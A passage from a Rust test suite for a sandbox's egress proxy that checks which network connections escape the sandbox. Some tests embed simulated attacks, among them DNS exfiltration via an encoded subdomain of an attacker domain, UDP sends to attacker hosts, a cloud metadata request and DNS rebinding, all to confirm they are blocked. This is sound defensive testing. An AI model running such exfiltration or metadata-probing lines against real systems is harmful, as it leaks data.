//! The egress proxy against real servers on the host's loopback: each test
//! starts listeners that record every connection and byte that reaches
//! them, runs real clients inside a sandbox, and checks what arrived.

use crate::common::tcp::{Upstream, PY_HELLO};
use crate::common::*;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::process::{Command, Stdio};
use std::time::Duration;

/// A server on 127.0.0.1 that takes every connection and never says
/// anything or closes; returns its port.
fn silent_server() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for conn in listener.incoming().flatten() {
            held.push(conn);
        }
    });
    port
}

fn sandbox_python(args: &[&str], body: &str) -> std::process::Output {
    let script = format!("{PY_HELLO}{body}");
    Command::new(warden_bin())
        .args(["run", "--no-tty"])
        .args(args)
        .args(["--", "python3", "-c", &script])
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

#[test]
fn an_allowed_name_reaches_its_server_and_a_denied_one_reaches_nothing() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"hello from upstream");
    let port = up.port.to_string();
    let dir = TempDir::new("egress-events");
    let ev = dir.path().join("ev.jsonl");
    let out = sandbox_python(
        &[
            "--allow-domain",
            &format!("allowed.test:{port}"),
            "--add-host",
            "allowed.test=127.0.0.1",
            "--json-events",
            ev.to_str().unwrap(),
        ],
        &format!(
            "ip = socket.gethostbyname('allowed.test')\n\
print('by-name', send((ip, {port}), hello('allowed.test')))\n\
print('denied', send((ip, {port}), hello('denied.test')))\n"
        ),
    );
    let s = stdout(&out);
    assert!(
        s.contains("by-name b'hello from upstream'"),
        "{s} {}",
        stderr(&out)
    );
    assert!(s.contains("denied b''"), "{s}");
    let seen = up.connections();
    assert_eq!(seen.len(), 1, "the upstream saw {} connections", seen.len());
    assert_eq!(
        seen[0][0], 22,
        "the upstream did not get the ClientHello first"
    );
    assert!(
        stderr(&out).contains("egress denied: tls denied.test"),
        "{}",
        stderr(&out)
    );
    let evs = events(&ev);
    let conns: Vec<_> = evs.iter().filter(|e| e["event"] == "connection").collect();
    assert!(conns
        .iter()
        .any(|e| e["protocol"] == "tls" && e["name"] == "allowed.test" && e["allowed"] == true));
    assert!(conns
        .iter()
        .any(|e| e["protocol"] == "tls" && e["name"] == "denied.test" && e["allowed"] == false));
    assert!(conns
        .iter()
        .any(|e| e["protocol"] == "dns" && e["name"] == "allowed.test"));
}

#[test]
fn an_allowed_name_sent_to_an_attackers_address_still_reaches_the_allowed_host() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"the allowed host");
    let port = up.port.to_string();
    // 203.0.113.9 stands for an attacker's server: the decision and the
    // destination come from the name, never from the address chosen.
    let out = sandbox_python(
        &[
            "--allow-domain",
            &format!("allowed.test:{port}"),
            "--add-host",
            "allowed.test=127.0.0.1",
        ],
        &format!("print(send(('203.0.113.9', {port}), hello('allowed.test')))\n"),
    );
    assert!(
        stdout(&out).contains("the allowed host"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
    assert_eq!(up.connections().len(), 1);
}

#[test]
fn connections_without_a_name_raw_tcp_and_ipv6_reach_nothing() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"should not be seen");
    let port = up.port.to_string();
    let out = sandbox_python(
        &[
            "--allow-domain",
            &format!("allowed.test:{port}"),
            "--add-host",
            "allowed.test=127.0.0.1",
        ],
        &format!(
            "ip = socket.gethostbyname('allowed.test')\n\
print('nosni', send(('203.0.113.9', {port}), hello(None)))\n\
print('rawip-sni', send(('203.0.113.9', {port}), hello('127.0.0.1')))\n\
print('ssh', send(('203.0.113.9', {port}), b'SSH-2.0-OpenSSH_9.2\\r\\n'))\n\
print('metadata', send(('169.254.169.254', 80), b'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n')[:12])\n\
print('v6', send(('2001:db8::1', {port}), b'x'))\n"
        ),
    );
    let s = stdout(&out);
    assert!(
        s.contains("nosni b''") && s.contains("rawip-sni b''") && s.contains("ssh b''"),
        "{s} {}",
        stderr(&out)
    );
    assert!(s.contains("v6 ('error'"), "{s}");
    assert!(s.contains("metadata b'HTTP/1.1 403'"), "{s}");
    assert!(
        up.connections().is_empty(),
        "the upstream saw {:?}",
        up.connections()
    );
}

#[test]
fn plain_http_is_denied_by_default_and_allowed_with_allow_http() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
    let port = up.port.to_string();
    let body = format!(
        "ip = socket.gethostbyname('web.test')\n\
print(send((ip, {port}), b'GET / HTTP/1.1\\r\\nHost: web.test:{port}\\r\\n\\r\\n'))\n"
    );
    let base = [
        "--allow-domain",
        &format!("web.test:{port}"),
        "--add-host",
        "web.test=127.0.0.1",
    ];
    let denied = sandbox_python(&base, &body);
    assert!(
        stdout(&denied).contains("403 Forbidden"),
        "{}",
        stdout(&denied)
    );
    assert!(up.connections().is_empty());
    let mut allowed_args = base.to_vec();
    allowed_args.push("--allow-http");
    let allowed = sandbox_python(&allowed_args, &body);
    assert!(
        stdout(&allowed).contains("200 OK"),
        "{} {}",
        stdout(&allowed),
        stderr(&allowed)
    );
    let seen = up.connections();
    assert_eq!(seen.len(), 1);
    let request = String::from_utf8_lossy(&seen[0]);
    assert!(request.starts_with("GET / HTTP/1.1"), "{request}");
    // One request per decision: the upstream is told to close after it.
    assert!(request.contains("Connection: close\r\n"), "{request}");
}

#[test]
fn a_plain_http_client_that_shuts_its_side_after_the_request_still_gets_the_answer() {
    // `nc`, or a pipe into curl: the request, then the write side shut
    // (a half-close), then the answer read. Served request by request,
    // the proxy must not take the half-close for the end of the exchange.
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok");
    let port = up.port;
    let out = sandbox_python(
        &[
            "--allow-domain",
            &format!("web.test:{port}"),
            "--add-host",
            "web.test=127.0.0.1",
            "--allow-http",
        ],
        &format!(
            "s = socket.create_connection((socket.gethostbyname('web.test'), {port}), timeout=5)\n\
s.sendall(b'GET /half HTTP/1.0\\r\\nHost: web.test:{port}\\r\\n\\r\\n')\n\
s.shutdown(socket.SHUT_WR)\n\
print('answer', s.recv(200))\n"
        ),
    );
    let s = stdout(&out);
    assert!(s.contains("200 OK"), "{s} {}", stderr(&out));
    let seen = up.connections();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert!(seen[0].starts_with(b"GET /half HTTP/1.1"), "{seen:?}");
}

#[test]
fn denied_names_get_nxdomain_and_nothing_reaches_a_name_server() {
    if !egress_available() {
        return;
    }
    // An attacker's name server on the host's loopback, and one "outside".
    let attacker = UdpSocket::bind("127.0.0.1:0").unwrap();
    attacker
        .set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let aport = attacker.local_addr().unwrap().port();
    let out = sandbox_python(
        &["--allow-domain", "allowed.test"],
        &format!(
            "try:\n    socket.gethostbyname('c2VjcmV0.exfil.attacker.test'); print('RESOLVED')\nexcept OSError as e: print('nx', e)\n\
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
for addr in [('127.0.0.1', {aport}), ('203.0.113.53', 53), ('203.0.113.53', {aport})]:\n    try: u.sendto(b'exfiltrated', addr)\n    except OSError: pass\n\
print('sent')\n"
        ),
    );
    let s = stdout(&out);
    assert!(
        s.contains("nx") && !s.contains("RESOLVED") && s.contains("sent"),
        "{s} {}",
        stderr(&out)
    );
    let mut buf = [0u8; 64];
    assert!(
        attacker.recv_from(&mut buf).is_err(),
        "a datagram reached the host"
    );
}

#[test]
fn net_log_says_each_decision_once_as_it_is_made() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"hello from upstream");
    let port = up.port.to_string();
    let out = sandbox_python(
        &[
            "--allow-domain",
            &format!("allowed.test:{port}"),
            "--add-host",
            "allowed.test=127.0.0.1",
            "--net-log",
        ],
        &format!(
            "ip = socket.gethostbyname('allowed.test')\n\
print('allowed', send((ip, {port}), hello('allowed.test')))\n\
print('denied', send((ip, {port}), hello('denied.test')))\n\
print('raw', send(('203.0.113.9', {port}), b'plain bytes'))\n"
        ),
    );
    let err = stderr(&out);
    assert!(
        stdout(&out).contains("allowed b'hello from upstream'"),
        "{err}"
    );
    for line in [
        "warden: egress allow dns allowed.test (rule allowed.test",
        &format!("warden: egress allow tls allowed.test:{port} (rule allowed.test:{port})"),
        &format!("warden: egress DENY tls denied.test:{port} "),
        &format!("warden: egress DENY tcp 203.0.113.9:{port} "),
    ] {
        assert_eq!(err.matches(line).count(), 1, "{line}\n{err}");
    }
}

#[test]
fn names_that_resolve_to_the_hosts_own_addresses_are_refused() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"host service");
    let port = up.port.to_string();
    // "localhost" resolves to 127.0.0.1 on the host: without --add-host the
    // proxy must not connect there (DNS rebinding onto host services).
    let out = sandbox_python(
        &["--allow-domain", &format!("localhost:{port}"), "--net-log"],
        &format!("print(send(('203.0.113.9', {port}), hello('localhost')))\n"),
    );
    assert!(!stdout(&out).contains("host service"), "{}", stdout(&out));
    // Refused for the right reason: the name was allowed, its address not.
    assert!(
        stderr(&out).contains("resolves only to the host's own addresses"),
        "{}",
        stderr(&out)
    );
    assert!(up.connections().is_empty());
}

#[test]
fn egress_works_for_an_unprivileged_user_too() {
    if !egress_available() {
        return;
    }
    let Some(who) = Unprivileged::get() else {
        skip("cannot get an unprivileged user to run warden as");
        return;
    };
    let up = Upstream::start(b"hello rootless");
    let service = Upstream::start(b"host service rootless");
    let port = up.port.to_string();
    let script = format!(
        "{PY_HELLO}ip = socket.gethostbyname('allowed.test')\nprint(send((ip, {port}), hello('allowed.test')))\n\
print(send((socket.gethostbyname('host.warden.internal'), {sp}), b'ping'))\n",
        sp = service.port
    );
    let out = who
        .command(who.bin.to_str().unwrap())
        .args(["run", "--no-tty", "--allow-degraded", "--allow-domain"])
        .arg(format!("allowed.test:{port}"))
        .args([
            "--add-host",
            "allowed.test=127.0.0.1",
            "--allow-host-port",
            &service.port.to_string(),
            "--",
            "python3",
            "-c",
            &script,
        ])
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .output()
        .unwrap();
    assert!(
        stdout(&out).contains("hello rootless"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
    assert_eq!(up.connections().len(), 1);
    assert!(
        stdout(&out).contains("host service rootless"),
        "{}",
        stdout(&out)
    );
    assert_eq!(service.connections(), vec![b"ping".to_vec()]);
}

#[test]
fn an_explicit_name_and_port_entry_allows_raw_tcp_to_that_name_only() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"SSH-2.0-upstream");
    let port = up.port.to_string();
    let out = sandbox_python(
        &[
            "--allow-domain",
            &format!("git.test:{port}"),
            "--add-host",
            "git.test=127.0.0.1",
        ],
        &format!(
            "ip = socket.gethostbyname('git.test')\n\
print('by-name', send((ip, {port}), b'SSH-2.0-client\\r\\n'))\n\
print('by-address', send(('203.0.113.22', {port}), b'SSH-2.0-client\\r\\n'))\n"
        ),
    );
    let s = stdout(&out);
    assert!(
        s.contains("by-name b'SSH-2.0-upstream'"),
        "{s} {}",
        stderr(&out)
    );
    assert!(s.contains("by-address b''"), "{s}");
    assert_eq!(up.connections().len(), 1);
}

#[test]
fn the_explicit_proxy_tunnels_allowed_names_and_refuses_others() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"tunnelled");
    let port = up.port.to_string();
    let out = sandbox_python(
        &["--allow-domain", &format!("allowed.test:{port}"), "--add-host", "allowed.test=127.0.0.1"],
        &format!(
            "import os\n\
host, pport = os.environ['HTTPS_PROXY'].rsplit('/', 1)[1].split(':')\n\
def tunnel(name):\n    s = socket.create_connection((host, int(pport)), timeout=5)\n    s.sendall(f'CONNECT {{name}}:{port} HTTP/1.1\\r\\nHost: {{name}}:{port}\\r\\n\\r\\n'.encode())\n    head = s.recv(200)\n    if b' 200 ' not in head: return head\n    s.sendall(hello(name)); return head + s.recv(200)\n\
print('allowed', tunnel('allowed.test'))\n\
print('denied', tunnel('denied.test'))\n"
        ),
    );
    let s = stdout(&out);
    assert!(
        s.contains("allowed b'HTTP/1.1 200 Connection established\\r\\n\\r\\ntunnelled'"),
        "{s} {}",
        stderr(&out)
    );
    assert!(s.contains("denied b'HTTP/1.1 403"), "{s}");
    let seen = up.connections();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0][0], 22, "the tunnel did not carry the ClientHello");
}

#[test]
fn new_connections_are_refused_once_the_egress_quota_is_used_up() {
    if !egress_available() {
        return;
    }
    static BIG: [u8; 4096] = [b'x'; 4096];
    let up = Upstream::start(&BIG);
    let port = up.port.to_string();
    let out = sandbox_python(
        &[
            "--allow-domain", &format!("allowed.test:{port}"), "--add-host", "allowed.test=127.0.0.1",
            "--egress-quota", "1K",
        ],
        &format!(
            "ip = socket.gethostbyname('allowed.test')\n\
def fetch():\n    s = socket.create_connection((ip, {port}), timeout=5); s.sendall(hello('allowed.test'))\n    got = b''\n    while True:\n        d = s.recv(8192)\n        if not d: return len(got)\n        got += d\n\
print('first', fetch())\nprint('second', fetch())\n"
        ),
    );
    let s = stdout(&out);
    assert!(s.contains("first 4096"), "{s} {}", stderr(&out));
    assert!(s.contains("second 0"), "{s}");
    assert_eq!(
        up.connections().len(),
        1,
        "a connection past the quota reached the server"
    );
}

#[test]
fn a_silent_connection_is_closed_after_the_idle_timeout() {
    if !egress_available() {
        return;
    }
    // A server that takes the connection and then says nothing, forever.
    let port = silent_server();
    let started = std::time::Instant::now();
    let out = sandbox_python(
        &[
            "--allow-domain",
            &format!("quiet.test:{port}"),
            "--add-host",
            "quiet.test=127.0.0.1",
            "--egress-idle-timeout",
            "1s",
        ],
        &format!(
            "import time\n\
s = socket.create_connection((socket.gethostbyname('quiet.test'), {port}), timeout=20)\n\
s.sendall(hello('quiet.test')); t = time.time()\n\
print('closed' if s.recv(10) == b'' else 'data', round(time.time() - t))\n"
        ),
    );
    let s = stdout(&out);
    assert!(s.starts_with("closed"), "{s} {}", stderr(&out));
    let waited: u64 = s
        .split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap_or(99);
    assert!(waited <= 5, "closed after {waited}s");
    assert!(started.elapsed() < Duration::from_secs(15));
}

#[test]
fn a_flood_of_denied_queries_neither_slows_warden_nor_loses_track_of_a_decision() {
    if !egress_available() {
        return;
    }
    let dir = TempDir::new("flood");
    let ev = dir.path().join("ev.jsonl");
    let started = std::time::Instant::now();
    // 12,000 distinct denied names, straight to the resolver as raw DNS,
    // each waiting for its answer: three times what the event queue holds.
    let out = sandbox_python(
        &["--allow-domain", "allowed.test", "--timeout", "60s", "--json-events", ev.to_str().unwrap()],
        "import struct\n\
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)\n\
def q(i, name):\n    labels = b''.join(bytes([len(p)]) + p for p in name.encode().split(b'.'))\n    return struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0) + labels + b'\\x00' + struct.pack('>HH', 1, 1)\n\
answered = 0\n\
for i in range(12000):\n    u.sendto(q(i, f'n{i}.flood.test'), ('127.0.0.1', 53))\n    try:\n        u.recvfrom(512); answered += 1\n    except OSError: pass\n\
print('sent', answered)\n",
    );
    assert!(
        stdout(&out).contains("sent"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
    assert!(
        started.elapsed() < Duration::from_secs(45),
        "warden took {:?}",
        started.elapsed()
    );
    let err = stderr(&out);
    let summary = err
        .lines()
        .find(|l| l.contains("egress denied"))
        .unwrap_or_default();
    assert!(
        summary.len() < 2000,
        "the denied summary is {} bytes long",
        summary.len()
    );
    // Every decision is accounted for: written as it was made (the first
    // of each name in a window), or counted in a connections_aggregated
    // record; nothing is dropped, and the log is not one line per query.
    let evs = events(&ev);
    let recorded = evs
        .iter()
        .filter(|e| e["event"] == "connection" && e["protocol"] == "dns" && e["allowed"] == false)
        .count() as u64;
    let counted: u64 = evs
        .iter()
        .filter(|e| {
            e["event"] == "connections_aggregated"
                && e["protocol"] == "dns"
                && e["allowed"] == false
        })
        .map(|e| e["count"].as_u64().unwrap())
        .sum();
    assert!(evs.iter().all(|e| e["event"] != "events_dropped"));
    assert!(recorded > 0);
    assert!(recorded < 12_000, "one line per query");
    assert_eq!(
        recorded + counted,
        12_000,
        "{recorded} recorded, {counted} counted"
    );
    assert!(stdout(&out).contains("sent 12000"), "{}", stdout(&out));
}

#[test]
fn a_flood_of_allowed_queries_is_counted_not_written_one_line_each() {
    if !egress_available() {
        return;
    }
    let dir = TempDir::new("allowed-flood");
    let ev = dir.path().join("ev.jsonl");
    // 3,000 answers for an allowed name (what a program that resolves the
    // name before every connection asks), straight to the resolver.
    let out = sandbox_python(
        &["--allow-domain", "allowed.test", "--timeout", "60s", "--json-events", ev.to_str().unwrap()],
        "import struct\n\
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)\n\
labels = b''.join(bytes([len(p)]) + p for p in b'allowed.test'.split(b'.'))\n\
answered = 0\n\
for i in range(3000):\n    u.sendto(struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0) + labels + b'\\x00' + struct.pack('>HH', 1, 1), ('127.0.0.1', 53))\n    try:\n        u.recvfrom(512); answered += 1\n    except OSError: pass\n\
print('sent', answered)\n",
    );
    assert!(
        stdout(&out).contains("sent 3000"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
    // Like any decision that opens no connection: the first of a window
    // written, the repeats counted; none of them is an allowed
    // connection's numbered opening (which no close would ever follow).
    let evs = events(&ev);
    let dns = |e: &&serde_json::Value| e["protocol"] == "dns" && e["allowed"] == true;
    let recorded = evs
        .iter()
        .filter(|e| e["event"] == "connection")
        .filter(dns)
        .count() as u64;
    let counted: u64 = evs
        .iter()
        .filter(|e| e["event"] == "connections_aggregated")
        .filter(dns)
        .map(|e| e["count"].as_u64().unwrap())
        .sum();
    assert!(recorded > 0);
    assert!(
        recorded < 100,
        "{recorded} lines for 3,000 answers to one name"
    );
    assert_eq!(
        recorded + counted,
        3000,
        "{recorded} recorded, {counted} counted"
    );
    assert!(
        evs.iter()
            .filter(|e| e["event"] == "connection")
            .filter(dns)
            .all(|e| e["conn"].is_null()),
        "a DNS answer numbered as a connection"
    );
}

#[test]
fn a_connection_still_open_when_the_run_ends_is_in_the_log() {
    if !egress_available() {
        return;
    }
    let port = silent_server();
    let dir = TempDir::new("open-at-end");
    let ev = dir.path().join("ev.jsonl");
    let out = sandbox_python(
        &[
            "--allow-domain",
            &format!("open.test:{port}"),
            "--add-host",
            "open.test=127.0.0.1",
            "--json-events",
            ev.to_str().unwrap(),
        ],
        &format!(
            "import os, time\n\
s = socket.create_connection((socket.gethostbyname('open.test'), {port}))\n\
s.sendall(hello('open.test')); time.sleep(0.5)\n\
os._exit(0)\n"
        ),
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let evs = events(&ev);
    assert!(
        evs.iter().any(|e| e["event"] == "connection"
            && e["protocol"] == "tls"
            && e["name"] == "open.test"
            && e["allowed"] == true),
        "no event for the open connection: {evs:?}"
    );
}

#[test]
fn what_follows_a_connect_must_pass_the_same_rules() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"upstream answered");
    let port = up.port.to_string();
    let out = sandbox_python(
        &["--allow-domain", &format!("allowed.test:{port}"), "--add-host", "allowed.test=127.0.0.1"],
        &format!(
            "import os\n\
host, pport = os.environ['HTTPS_PROXY'].rsplit('/', 1)[1].split(':')\n\
def tunnel(inner):\n    s = socket.create_connection((host, int(pport)), timeout=5)\n    s.sendall(b'CONNECT allowed.test:{port} HTTP/1.1\\r\\nHost: allowed.test:{port}\\r\\n\\r\\n')\n    head = s.recv(200)\n    s.sendall(inner)\n    try: return s.recv(200)\n    except OSError as e: return ('error', e.errno)\n\
print('tls-right', tunnel(hello('allowed.test')))\n\
print('tls-other', tunnel(hello('other.test')))\n\
print('plain-http', tunnel(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'))\n"
        ),
    );
    let s = stdout(&out);
    assert!(
        s.contains("tls-right b'upstream answered'"),
        "{s} {}",
        stderr(&out)
    );
    assert!(s.contains("tls-other b''"), "{s}");
    assert!(s.contains("plain-http b''"), "{s}");
    // The upstream is connected before a CONNECT is answered (so that a
    // refusal by address is the CONNECT's answer): each tunnel reached
    // the server, but only the allowed one carried a byte to it.
    std::thread::sleep(Duration::from_millis(600));
    let carried: Vec<Vec<u8>> = up
        .connections()
        .into_iter()
        .filter(|c| !c.is_empty())
        .collect();
    assert_eq!(
        carried.len(),
        1,
        "only the allowed tunnel's bytes reached the server"
    );
    assert_eq!(carried[0][0], 22, "{carried:?}");
}

#[test]
fn a_host_port_is_reachable_by_its_name_and_no_other_host_port_is() {
    if !egress_available() {
        return;
    }
    // An HTTP server: plain HTTP is served request by request, so what
    // answers an HTTP request must be an HTTP answer (raw bytes to the
    // port are relayed as they are).
    let open = Upstream::start(b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\nhost service");
    let closed = Upstream::start(b"must not be reached");
    let out = sandbox_python(
        &["--allow-host-port", &open.port.to_string()],
        &format!(
            r#"ip = socket.gethostbyname('host.warden.internal')
print('raw', send((ip, {o}), b'ping'))
print('http', send((ip, {o}), b'GET / HTTP/1.1\r\nHost: host.warden.internal:{o}\r\n\r\n'))
print('other-port', send((ip, {c}), b'ping'))
print('direct', send(('127.0.0.1', {c}), b'ping'))
"#,
            o = open.port,
            c = closed.port
        ),
    );
    let s = stdout(&out);
    let line = |tag: &str| {
        s.lines()
            .find(|l| l.starts_with(tag))
            .unwrap_or_default()
            .to_string()
    };
    assert!(
        line("raw ").contains("host service"),
        "{s} {}",
        stderr(&out)
    );
    assert!(line("http ").contains("200 OK"), "{s}");
    assert!(line("http ").contains("host service"), "{s}");
    assert!(
        s.contains("other-port b''") || s.contains("other-port ('error'"),
        "{s}"
    );
    assert!(s.contains("direct ('error'"), "{s}");
    let seen = open.connections();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[0], b"ping");
    assert!(seen[1].starts_with(b"GET / HTTP/1.1"));
    assert!(
        closed.connections().is_empty(),
        "a host port that was not opened was reached"
    );
}

/// Run a server inside a sandbox with `--publish HOST:8000`, built by
/// `warden` from its arguments; talk to it from the host through the
/// published port and check that it cannot reach a server outside.
fn published_server_round_trip(warden: impl FnOnce(&[String]) -> Command) {
    let outside = Upstream::start(b"leaked");
    let host_port = free_port();
    let server = format!(
        r#"import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', 8000)); s.listen()
c, _ = s.accept(); data = c.recv(100)
try:
    socket.create_connection(('127.0.0.1', {p}), timeout=3).sendall(b'leak')
    out = b'reached'
except OSError:
    out = b'blocked'
c.sendall(b'inside:' + data + b':' + out); c.close()
"#,
        p = outside.port
    );
    let args: Vec<String> = [
        "run",
        "--no-tty",
        "--timeout",
        "30s",
        "--publish",
        &format!("{host_port}:8000"),
        "--",
        "python3",
        "-c",
        &server,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let child = warden(&args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    let mut reply = Vec::new();
    while std::time::Instant::now() < deadline && reply.is_empty() {
        if let Ok(mut c) = std::net::TcpStream::connect(("127.0.0.1", host_port)) {
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let _ = c.write_all(b"hello");
            let _ = c.read_to_end(&mut reply);
        }
        if reply.is_empty() {
            std::thread::sleep(Duration::from_millis(100));
        }
    }
    let out = child.wait_with_output().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&reply),
        "inside:hello:blocked",
        "{}",
        stderr(&out)
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(outside.connections().is_empty());
    // The port is the host's again once the run is over.
    assert!(std::net::TcpStream::connect(("127.0.0.1", host_port)).is_err());
}

#[test]
fn a_published_port_reaches_the_server_inside_while_its_egress_stays_filtered() {
    published_server_round_trip(|args| {
        let mut c = Command::new(warden_bin());
        c.args(args);
        c
    });
}

#[test]
fn a_published_port_works_for_an_unprivileged_user_too() {
    let Some(who) = Unprivileged::get() else {
        skip("cannot get an unprivileged user to run warden as");
        return;
    };
    published_server_round_trip(|args| {
        let mut c = who.command(who.bin.to_str().unwrap());
        c.arg(&args[0])
            .arg("--allow-degraded")
            .args(&args[1..])
            .env_clear()
            .env("PATH", "/usr/bin:/bin");
        c
    });
}

#[test]
fn publishing_a_port_in_use_is_refused_before_anything_runs() {
    let taken = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = taken.local_addr().unwrap().port();
    let dir = TempDir::new("publish-taken");
    let marker = dir.path().join("ran");
    let out = Command::new(warden_bin())
        .args([
            "run",
            "--no-tty",
            "--rw",
            dir.path().to_str().unwrap(),
            "-p",
        ])
        .arg(format!("{port}:80"))
        .args(["--", "touch", marker.to_str().unwrap()])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    let err = stderr(&out);
    assert!(
        err.contains(&format!("cannot publish port {port}")) && err.contains("in use"),
        "{err}"
    );
    assert!(!marker.exists(), "the command ran");
}

/// Drives `warden run --ask` through a pseudo-terminal: answers each
/// question with the next word of ANSWERS (comma-separated; `@reply` plays
/// the terminal answering the sandbox's queries), then prints everything the
/// terminal showed and exits with warden's status.
const PTY_DRIVER: &str = r#"import os, pty, select, sys, time
answers = sys.argv[1]
argv = sys.argv[2:]
pid, fd = pty.fork()
if pid == 0:
    os.execv(argv[0], argv)
out = b''
def read(until=None, t=20.0):
    global out
    start, end = len(out), time.time() + t
    while time.time() < end:
        r, _, _ = select.select([fd], [], [], 0.2)
        if not r:
            continue
        try:
            d = os.read(fd, 4096)
        except OSError:
            return False
        if not d:
            return False
        out += d
        if until is not None and until in out[start:]:
            return True
    return False
need_prompt = True
for word in [w for w in answers.split(',') if w]:
    if need_prompt and not read(b'then Enter: '):
        break
    # A person reads before answering; keys sent at once would count for
    # nothing.
    time.sleep(0.6)
    if word == '@reply':
        # The terminal answering queries the sandbox printed (as xterm
        # and VTE do on their own): not a person's answer.
        os.write(fd, b'\x1b[24;80R')
        os.write(fd, b'\x1b]11;rgb:0000/0000/0000\x07')
        read(t=1.0)
        need_prompt = False
        continue
    os.write(fd, word.encode() + b'\r')
    need_prompt = True
read()
_, status = os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors='replace'))
sys.exit(os.waitstatus_to_exitcode(status))
"#;

#[test]
fn ask_mode_puts_unlisted_names_to_the_person_at_the_terminal() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"asked and answered");
    let port = up.port;
    let body = format!(
        r#"import socket
def send(name, data):
    try:
        s = socket.create_connection((name, {port}), timeout=25); s.sendall(data)
        return s.recv(100)
    except OSError as e:
        return ('error', e.errno)
print('first', send('asked.test', b'first'))
print('second', send('asked.test', b'second'))
print('third', send('other.test', b'third'))
print('host', send('host.warden.internal', b'fourth'))
"#
    );
    let out = Command::new("python3")
        .env("WARDEN_TEST_ASK_LOOPBACK", "1")
        .args(["-c", PTY_DRIVER, "run,deny"])
        .arg(warden_bin())
        .args([
            "run",
            "--ask",
            "--net-log",
            "--add-host",
            "asked.test=127.0.0.1",
            "--add-host",
            "other.test=127.0.0.1",
            "--",
            "python3",
            "-c",
            &body,
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let s = stdout(&out);
    assert!(out.status.success(), "{s} {}", stderr(&out));
    assert_eq!(
        s.matches("a connection no rule allows").count(),
        2,
        "asked once for asked.test (allowed for the run) and once for other.test: {s}"
    );
    assert!(s.contains(&format!("allow tcp asked.test:{port} ?")), "{s}");
    assert!(s.contains("allowed for this run"), "{s}");
    assert!(s.contains("first b'asked and answered'"), "{s}");
    assert!(s.contains("second b'asked and answered'"), "{s}");
    assert!(s.contains("third b''"), "{s}");
    // A person's no, in words, and the flag that would allow it without
    // a question (the proxy names no flag: this door does).
    assert!(s.contains("denied when asked"), "{s}");
    assert!(
        s.contains(&format!(
            "(`--allow-domain other.test:{port}` would allow it)"
        )),
        "{s}"
    );
    // The host's own services are never put to a question.
    assert!(s.contains("host.warden.internal is the host itself"), "{s}");
    assert!(
        s.contains(&format!("(`--allow-host-port {port}` would allow it)")),
        "{s}"
    );
    assert_eq!(
        up.connections(),
        vec![b"first".to_vec(), b"second".to_vec()]
    );
}

#[test]
fn only_allow_host_port_leads_to_the_hosts_own_services() {
    if !egress_available() {
        return;
    }
    let service = Upstream::start(b"host service");
    let port = service.port.to_string();
    // A wildcard that happens to cover the alias opens nothing of the host.
    let out = sandbox_python(
        &["--allow-domain", &format!(".internal:{port}"), "--net-log"],
        &format!(
            "print('alias', send((socket.gethostbyname('host.warden.internal'), {port}), b'GET / HTTP/1.1\\r\\nHost: host.warden.internal\\r\\n\\r\\n'))\n"
        ),
    );
    assert!(!stdout(&out).contains("host service"), "{}", stdout(&out));
    assert!(service.connections().is_empty());
    // Naming the alias itself is refused with the flag to use.
    let out = sandbox_python(&["--allow-domain", "host.warden.internal"], "print(1)");
    assert_eq!(out.status.code(), Some(125));
    assert!(
        stderr(&out).contains("--allow-host-port"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn the_sandbox_cannot_answer_its_own_question_or_write_over_it() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"must not be reached");
    let port = up.port;
    // The sandbox asks, then (its connection pending) queries the terminal
    // and prints a fake line meant to cover the question.
    let body = format!(
